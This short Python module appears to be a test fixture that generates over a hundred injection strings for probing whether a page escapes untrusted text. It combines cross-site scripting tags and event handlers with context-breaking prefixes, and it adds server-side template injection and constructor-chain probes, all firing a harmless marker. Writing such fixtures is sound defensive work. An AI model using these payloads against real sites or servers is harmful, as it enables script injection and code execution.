"""Texts that would run, or break out of their place, on a careless page."""

from __future__ import annotations

DOES = "window.pwned=1"
TAGS = (
    f"<script>{DOES}</script>",
    f"</script><script>{DOES}</script>",
    f"<img src=x onerror={DOES}>",
    f"<svg onload={DOES}>",
    f"<svg><animate onbegin={DOES} attributeName=x dur=1s></svg>",
    f"<body onload={DOES}>",
    f"<iframe srcdoc='<script>parent.{DOES}</script>'></iframe>",
    f"<details open ontoggle={DOES}>",
    f"<input autofocus onfocus={DOES}>",
    f"<math><mtext><img src onerror={DOES}></mtext></math>",
    f'<a href="javascript:{DOES}">x</a>',
    f'<object data="javascript:{DOES}"></object>',
    f"<style>@import 'javascript:{DOES}';</style>",
    f"<base href=//elsewhere.example/><img src=x onerror={DOES}>",
    f'<form action=//elsewhere.example/><button formaction="javascript:{DOES}">x</button>',
    f'<meta http-equiv=refresh content="0;url=javascript:{DOES}">',
    f"<template><script>{DOES}</script></template>",
    f"<marquee onstart={DOES}>",
    f"<video><source onerror={DOES}></video>",
    f"<link rel=stylesheet href=x onerror={DOES}>",
)
WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "-->", "]]>")
PLAIN = (
    "{{7*7777}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    f"${{{DOES}}}",
    f"javascript:{DOES}",
    f"\u2028{DOES}//",
    "&lt;script&gt;",
    "\\u003cscript\\u003e",
    f"datum['constructor']['constructor']('{DOES}')()",
)


def payloads() -> list[str]:
    """More than a hundred."""
    return [way + tag for way in WAYS_OUT for tag in TAGS] + list(PLAIN)
